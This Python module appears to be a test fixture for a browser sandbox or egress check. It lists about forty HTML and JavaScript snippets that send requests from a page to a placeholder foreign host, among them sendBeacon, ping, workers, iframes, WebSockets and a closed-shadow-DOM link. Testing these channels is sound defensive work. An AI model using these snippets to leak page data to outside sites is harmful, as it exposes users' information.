"""The ways in which a page sends something to a foreign site: 29 measured ones, and a few more."""

from collections.abc import Callable
from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True, slots=True)
class Channel:
    """One way out.

    Attributes:
        name: What it is called in the report of a test.
        html: The page it starts from; `{out}` is the foreign site, `{home}` ours.
        js: What sets it off there; "" when loading the page does.
        is_document: It shows a whole document in a tab.
    """

    name: str
    html: str = "<p>本文</p>"
    js: str = ""
    is_document: bool = True

    @property
    def opens_tab(self) -> bool:
        """True when it shows what it sends in a tab of its own."""
        return any(word in self.html + self.js for word in ("_blank", "window.open("))

    def at(self, fill: Callable[[str], str]) -> tuple[str, str]:
        """Return page and script with the addresses filled in."""
        return fill(self.html), fill(self.js)


_CLICK: Final = "document.querySelector('a').click()"
_SUBMIT: Final = "document.forms[0].requestSubmit()"
_FIELD: Final = "<input name=a value=1>"
_POST: Final = "{method:'POST',body:'x',mode:'no-cors'}"


def _data(name: str, html: str = "<p>本文</p>", js: str = "") -> Channel:
    return Channel(name, html, js, is_document=False)


CHANNELS: Final = (
    Channel("location.href", js="void(location.href='{out}/x')"),
    Channel("location.replace", js="void(location.replace('{out}/x'))"),
    Channel("link", "<a href='{out}/x'>行く</a>", _CLICK),
    Channel("javascript: link", "<a href=\"javascript:location='{out}/x'\">行く</a>", _CLICK),
    Channel("meta refresh", "<meta http-equiv=refresh content='0;url={out}/x'>"),
    Channel("form GET", f"<form action='{{out}}/x'>{_FIELD}</form>", _SUBMIT),
    Channel("form POST", f"<form method=post action='{{out}}/x'>{_FIELD}</form>", _SUBMIT),
    Channel("302", js="void(location='{home}/302')"),
    Channel("303 after POST", f"<form method=post action='/303'>{_FIELD}</form>", _SUBMIT),
    Channel("307 of POST", f"<form method=post action='/307'>{_FIELD}</form>", _SUBMIT),
    Channel("308 of POST", f"<form method=post action='/308'>{_FIELD}</form>", _SUBMIT),
    Channel("two redirects", js="void(location='{home}/302-302')"),
    Channel("target=_blank", "<a target=_blank href='{out}/x'>行く</a>", _CLICK),
    Channel("_blank, noopener", "<a target=_blank rel=noopener href='{out}/x'>行</a>", _CLICK),
    Channel("_blank form POST", f"<form target=_blank method=post action='{{out}}/x'>{_FIELD}</form>", _SUBMIT),
    Channel("window.open", js="void window.open('{out}/x')"),
    Channel("window.open noopener", js="void window.open('{out}/x','','noopener')"),
    Channel("window.open → 302", js="void window.open('/302')"),
    Channel("window.open noopener → 302", js="void window.open('/302','','noopener')"),
    Channel("_blank → 302", "<a target=_blank href='/302'>行く</a>", _CLICK),
    Channel("_blank form → 307", f"<form target=_blank method=post action='/307'>{_FIELD}</form>", _SUBMIT),
    Channel("empty popup, then its location", js="void(window.open('about:blank').location='{out}/x')"),
    Channel("base target and shadow link", "<base target=_blank><div id=h></div><script>h.attachShadow({mode:'closed'}).innerHTML='<a href=\"{out}/x\">a</a>';</script><a href='{out}/x'>b</a>", _CLICK),
    _data("iframe POST", f"<iframe name=f></iframe><form target=f method=post action='{{out}}/x'>{_FIELD}</form>", _SUBMIT),
    _data("iframe 307", f"<iframe name=f></iframe><form target=f method=post action='/307'>{_FIELD}</form>", _SUBMIT),
    _data("fetch POST", js=f"void fetch('{{out}}/x',{_POST}).catch(() => 0)"),
    _data("fetch POST → 307", js=f"void fetch('/307',{_POST}).catch(() => 0)"),
    _data("fetch keepalive", js="void fetch('{out}/x',{method:'POST',body:'x',mode:'no-cors',keepalive:true}).catch(() => 0)"),
    _data("XHR POST", js="(() => { const x = new XMLHttpRequest; x.open('POST','{out}/x'); x.send('a') })()"),
    _data("XHR DELETE", js="void fetch('{out}/x',{method:'DELETE'}).catch(() => 0)"),
    _data("sendBeacon", js="void navigator.sendBeacon('{out}/x','a')"),
    _data("sendBeacon → 307", js="void navigator.sendBeacon('/307','a')"),
    _data("ping", "<a ping='{out}/x' href='#a'>行く</a>", _CLICK),
    _data("worker", js="void(window.w = new Worker('/worker.js'))"),
    _data("blob worker", js=f"void(window.w = new Worker(URL.createObjectURL(new Blob([`fetch('{{out}}/x',{_POST})`]))))"),
    _data("data: iframe", f"<iframe src=\"data:text/html,<script>fetch('{{out}}/x',{_POST})</script>\"></iframe>"),
    _data("srcdoc iframe", f"<iframe srcdoc=\"<script>fetch('{{out}}/x',{_POST})</script>\"></iframe>"),
    _data("popup's own fetch", js=f"void window.open('about:blank').fetch('{{out}}/x',{_POST}).catch(() => 0)"),
    _data("web socket", js="void(window.s = new WebSocket('{out}/x'.replace('http','ws')))"),
    _data("web socket of a frame", "<iframe srcdoc=\"<script>new WebSocket('{out}/x'.replace('http','ws'))</script>\"></iframe>"),
)  # fmt: skip
"""Each ends in a request for `/x` of the foreign site."""
